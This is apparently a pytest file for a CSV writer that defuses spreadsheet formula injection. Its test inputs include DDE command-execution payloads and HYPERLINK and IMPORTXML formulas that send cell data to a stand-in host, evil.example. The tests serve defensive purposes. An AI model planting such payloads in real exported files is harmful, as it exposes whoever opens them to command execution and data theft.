"""CSV that a spreadsheet shows and never runs."""

import csv
import io
import random

import pytest

from broadcaster.render.sheet import cell, line

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"klik")', "+31612345678", "-2+3",
    "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "＝1+1", "＠SUM(A1)", '=IMPORTXML("http://evil.example","//a")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "-", "=", "@",
)  # fmt: skip
"""What makes a program of a cell."""


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_begins_a_cell(formula: str) -> None:
    ((read, after),) = csv.reader(io.StringIO(line([formula, "x"]), newline=""))
    assert read == f"'{formula}"
    assert after == "x", "and it began no cell of its own"


@pytest.mark.parametrize(
    "text", ["Blijf thuis", "a=b", "2026-11-24T14:00:00+01:00", "1,5", 'zeg "ja"', "é\ny", "", "'t"]
)
def test_what_is_none_stays_as_it_was(text: str) -> None:
    assert next(csv.reader(io.StringIO(cell(text), newline=""), strict=True), [""]) == [text]


def test_whatever_is_in_them_as_many_cells_come_out_as_went_in_and_none_of_them_runs() -> None:
    rng = random.Random(7)
    alphabet = "=+-@\t\r\n ,;\"'a1é＝"
    for _ in range(2000):
        cells = ["".join(rng.choices(alphabet, k=rng.randint(0, 6))) for _ in range(4)]
        (read,) = csv.reader(io.StringIO(line(cells), newline=""), strict=True)
        assert [one.removeprefix("'") if one != cell_ else one for one, cell_ in zip(read, cells, strict=True)] == cells
        assert not any(one.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for one in read)
